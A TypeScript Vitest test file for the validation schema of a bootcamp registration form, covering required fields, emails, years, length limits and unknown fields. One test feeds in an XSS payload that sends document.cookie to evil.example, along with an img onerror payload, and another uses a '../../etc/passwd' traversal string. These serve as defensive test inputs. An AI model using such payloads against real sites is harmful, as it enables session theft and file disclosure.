import { afterEach, describe, expect, it, vi } from 'vitest'
import { fieldErrors } from './fields'
import { RegistrationSchema } from './registration.schema'

const required = {
  fullName: 'Rahul Nayak',
  email: 'rahul.nayak@example.com',
  phone: '9845031870',
  bootcamp: 'undecided',
  track: 'simulation',
}

const complete = {
  ...required,
  location: 'Mangaluru',
  qualification: 'B.E.',
  branch: 'Electronics and Communication',
  college: 'NITK Surathkal',
  yearOfPassing: '2024',
  projects: 'A Flask expense tracker and an Arduino weather station.',
  whyJoin: 'I want to move from hardware testing into backend development.',
  bootcamp: 'backend-development',
}

function errorsOf(input: Record<string, unknown>) {
  const result = RegistrationSchema.safeParse(input)
  return result.success ? {} : fieldErrors(result.error)
}

describe('RegistrationSchema', () => {
  afterEach(() => vi.useRealTimers())

  it('accepts only the required fields; optional ones left empty become undefined', () => {
    const parsed = RegistrationSchema.parse({
      ...required,
      location: '',
      yearOfPassing: '  ',
      projects: '',
    })
    expect(parsed).toMatchObject(required)
    expect(parsed.location).toBeUndefined()
    expect(parsed.yearOfPassing).toBeUndefined()
  })

  it('accepts a complete registration and trims it', () => {
    const parsed = RegistrationSchema.parse({ ...complete, college: '  NITK Surathkal  ' })
    expect(parsed).toEqual(complete)
  })

  it.each(['fullName', 'email', 'phone', 'bootcamp', 'track'] as const)('requires %s', (field) => {
    expect(Object.keys(errorsOf({ ...required, [field]: '' }))).toEqual([field])
  })

  it('names what is missing from an empty post', () => {
    const errors = errorsOf({})
    expect(Object.keys(errors).sort()).toEqual(['bootcamp', 'email', 'fullName', 'phone', 'track'])
    expect(errors.track).toBe('Please choose a learning track.')
    expect(errors.bootcamp).toBe('Please choose a bootcamp, or "Not sure yet" and we will help you choose.')
  })

  it.each(['standard', 'simulation', 'internship', 'mentor', 'any'])('accepts the track %s', (track) => {
    expect(RegistrationSchema.safeParse({ ...required, track }).success).toBe(true)
  })

  it.each(['Standard Bootcamp', 'vip', ' '])('rejects the track %j', (track) => {
    expect(errorsOf({ ...required, track }).track).toBeDefined()
  })

  it.each(['rahul', 'rahul@example', 'rahul@@example.com'])('rejects the email %s', (email) => {
    expect(errorsOf({ ...required, email }).email).toMatch(/valid email/)
  })

  it.each(['24', '20245', '2O24', '２０２４', '-2024', '2024.0'])(
    'rejects the year %j as not four digits',
    (yearOfPassing) => {
      expect(errorsOf({ ...required, yearOfPassing }).yearOfPassing).toMatch(/four digits/)
    },
  )

  it('accepts years from 1970 to five years ahead, and no others', () => {
    vi.useFakeTimers()
    vi.setSystemTime(new Date('2026-03-01T00:00:00Z'))
    expect(errorsOf({ ...required, yearOfPassing: '1970' })).toEqual({})
    expect(errorsOf({ ...required, yearOfPassing: '2031' })).toEqual({})
    expect(errorsOf({ ...required, yearOfPassing: '1969' }).yearOfPassing).toBe('Enter a year between 1970 and 2031.')
    expect(errorsOf({ ...required, yearOfPassing: '2032' }).yearOfPassing).toBe('Enter a year between 1970 and 2031.')
    expect(errorsOf({ ...required, yearOfPassing: '0000' }).yearOfPassing).toMatch(/between/)
  })

  it('bounds lengths of every text field', () => {
    expect(errorsOf({ ...required, fullName: 'r'.repeat(121) }).fullName).toMatch(/at most 120/)
    for (const field of ['location', 'qualification', 'branch', 'college']) {
      expect(errorsOf({ ...required, [field]: 'x'.repeat(200) })).toEqual({})
      expect(errorsOf({ ...required, [field]: 'x'.repeat(201) })[field]).toMatch(/at most 200/)
    }
    for (const field of ['projects', 'whyJoin']) {
      expect(errorsOf({ ...required, [field]: 'x'.repeat(2000) })).toEqual({})
      expect(errorsOf({ ...required, [field]: 'x'.repeat(2001) })[field]).toMatch(/at most 2000/)
    }
  })

  it('stores markup as plain text', () => {
    const hostile = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    const parsed = RegistrationSchema.parse({
      ...required,
      whyJoin: hostile,
      college: '"><img src=x onerror=alert(1)>',
    })
    expect(parsed.whyJoin).toBe(hostile)
    expect(parsed.college).toBe('"><img src=x onerror=alert(1)>')
  })

  it('takes each of the ten bootcamps or "undecided", and refuses anything else with a message', () => {
    expect(RegistrationSchema.parse({ ...required, bootcamp: 'data-science' }).bootcamp).toBe('data-science')
    expect(RegistrationSchema.parse({ ...required, bootcamp: 'undecided' }).bootcamp).toBe('undecided')
    for (const bootcamp of ['../../etc/passwd', 'Data Science', 'devops', ' '])
      expect(errorsOf({ ...required, bootcamp }).bootcamp, bootcamp).toMatch(/choose a bootcamp/)
  })

  it('drops unknown fields, including file names posted as text', () => {
    const parsed = RegistrationSchema.parse({ ...required, resume: 'resume.pdf', role: 'admin' })
    expect(parsed).not.toHaveProperty('resume')
    expect(parsed).not.toHaveProperty('role')
  })
})
